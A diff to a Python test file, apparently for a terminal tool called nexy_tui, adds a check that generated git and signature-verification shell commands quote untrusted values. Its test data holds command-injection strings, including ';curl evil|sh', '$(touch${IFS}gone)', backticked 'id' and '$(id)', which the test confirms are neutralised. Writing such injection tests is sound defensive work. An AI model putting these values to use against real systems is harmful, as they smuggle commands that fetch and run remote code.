@@ -7,6 +7,9 @@ import string
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager, redirect_stderr, redirect_stdout
 from datetime import UTC, datetime
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any, cast
 
 import pytest
 import typer
@@ -27,6 +30,7 @@ from nexy_tui.core.repository import repository_of
 from nexy_tui.core.text import last_lines, printable, printable_lines
 from nexy_tui.engine.notice import ActionEnded, ActionEvent, ActionStarted, Found, Notice
 from nexy_tui.plain import PlainRenderer
+from nexy_tui.runlog.show import verify_command
 from nexy_tui.services.github_api import Answer
 from nexy_tui.services.ratelimit import wait_asked
 from nexy_tui.services.remotes import Stray
@@ -204,3 +208,5 @@ def test_commands_that_are_offered_run_nothing_of_what_others_named() -> None:
     stray = Stray("https://h/o/r;curl evil|sh", "x$(touch${IFS}gone)`id`", "a" * 40, "s", False)
     assert "clone --branch 'x$(touch${IFS}gone)`id`' 'https://h/o/r;curl evil|sh' stray" in stray.revert()
     assert "'HEAD:refs/heads/x$(touch${IFS}gone)`id`'" in stray.revert()
+    command = verify_command(Path("/tmp/a b;id/r.intoto.jsonl"), "$(id)", cast(Any, SimpleNamespace(moment=NOW)))
+    assert "-I '$(id)' " in command and command.endswith("-s '/tmp/a b;id/r.intoto.jsonl.sig' < '/tmp/a b;id/r.intoto.jsonl'")
